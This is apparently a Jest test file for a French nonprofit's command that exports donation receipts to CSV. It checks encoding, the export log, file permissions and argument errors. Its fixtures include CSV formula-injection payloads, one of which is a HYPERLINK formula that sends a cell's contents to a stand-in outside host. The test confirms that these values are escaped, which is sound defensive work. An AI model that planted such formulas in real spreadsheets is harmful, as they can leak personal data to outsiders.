import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { createTestContext, TEST_YEAR, type TestContext } from '../../__tests__/support/harness';
import { donationPayload, membershipPayload, configuredIssuerEnv } from '../../__tests__/support/fixtures';
import { paymentCalls } from '../../__tests__/support/payment-calls';
import { parseReceiptsArguments, runReceiptsCommand } from '../../receipts-cli';
import { RECEIPTS_CSV_HEADER } from '../receipts-csv';

/** What a member of the public may type as a name, hoping a spreadsheet runs it. */
const FORMULA_NAME = '=HYPERLINK("http://exemple.org/"&C2;"Voir")';

let ctx: TestContext;
beforeAll(async () => {
  ctx = await createTestContext(configuredIssuerEnv());
  const calls = paymentCalls(() => ctx);
  for (const [kind, payload] of [
    [
      'donation',
      donationPayload({ customer_id: 'don_1', lastName: 'Durand; fils', amount: 60, donationAmount: 60 }),
    ],
    ['membership', membershipPayload({ customer_id: 'adh_1', amount: 45.5, donationAmount: 25.5 })],
    ['donation', donationPayload({ customer_id: 'don_2', amount: 20, donationAmount: 20 })],
    [
      'donation',
      donationPayload({
        customer_id: 'don_3',
        lastName: FORMULA_NAME,
        firstName: '@SOMME(1+1)',
        amount: 15,
        donationAmount: 15,
      }),
    ],
  ] as const) {
    const { payment_id } = (await calls.start(kind, payload)).json() as { payment_id: string };
    // The third one is cancelled: no receipt, no line.
    await calls.sandbox(payment_id, payload.customer_id === 'don_2' ? 'cancel' : 'pay');
    await calls.confirm(kind, payment_id, payload.customer_id);
  }
});
afterAll(() => ctx.close());

describe('npm run receipts -w api -- --year YYYY', () => {
  it('writes the year’s receipts as CSV for a French spreadsheet: number, date, donor, amount', () => {
    const year = TEST_YEAR;
    const output = path.join(ctx.dir, 'recus.csv');
    const journal = () =>
      ctx.app.services.db.prepare('SELECT volunteer, action, subject FROM personal_data_views').all();
    expect(journal()).toEqual([]);
    expect(runReceiptsCommand({ year, output }, { DATABASE_PATH: ctx.config.databasePath })).toBe(3);
    // The donors' names left the server: the journal of views says who took them, and how many.
    expect(journal()).toEqual([
      {
        volunteer: `ligne de commande (${os.userInfo().username})`,
        action: 'liste exportée, 3 lignes',
        subject: 'recus.csv',
      },
    ]);
    const bytes = fs.readFileSync(output);
    // UTF-8 with its byte-order mark: a French Excel reads « adhésion » as written.
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    // Read back by a real CSV parser, as a spreadsheet would.
    const [header, ...lines] = parse(bytes, { bom: true, delimiter: ';' }) as string[][];
    expect(header).toEqual([...RECEIPTS_CSV_HEADER]);
    // Paid at the tests' moment, 1 December 2026.
    const today = '01/12/2026';
    const reference = (prefix: string) => expect.stringMatching(new RegExp(`^${prefix}-[0-9A-F]{10}$`));
    expect(lines).toEqual([
      [`${year}-00001`, today, 'Durand; fils', 'Marie', '60,00', 'don', reference('DON'), 'valide'],
      [`${year}-00002`, today, 'Lefèvre', 'Marie', '25,50', 'don avec adhésion', reference('ADH'), 'valide'],
      // A name typed as a formula is text: its cell starts with an apostrophe, never with « = » or « @ ».
      [
        `${year}-00003`,
        today,
        `'${FORMULA_NAME}`,
        "'@SOMME(1+1)",
        '15,00',
        'don',
        reference('DON'),
        'valide',
      ],
    ]);
    expect(fs.statSync(output).mode & 0o777).toBe(0o600);
    expect(runReceiptsCommand({ year: year - 1, output }, { DATABASE_PATH: ctx.config.databasePath })).toBe(
      0,
    );
    expect(fs.readFileSync(output, 'utf8')).toBe(`\uFEFF${RECEIPTS_CSV_HEADER.join(';')}\r\n`);
  });

  it('reads --year and --output, this year by default, and says in French what it cannot read', () => {
    expect(parseReceiptsArguments(['--year', '2026'])).toEqual({ year: 2026, output: undefined });
    expect(parseReceiptsArguments(['--output', 'x.csv'], new Date('2027-03-01T00:00:00Z'))).toEqual({
      year: 2027,
      output: 'x.csv',
    });
    expect(() => parseReceiptsArguments(['--year', '26'])).toThrow(/^Argument non reconnu : --year/);
    expect(() => parseReceiptsArguments(['--annee'])).toThrow(/Usage : --year 2026/);
    expect(() =>
      runReceiptsCommand({ year: 2026 }, { DATABASE_PATH: path.join(ctx.dir, 'absente.sqlite') }),
    ).toThrow(/^Base de données introuvable/);
  });
});
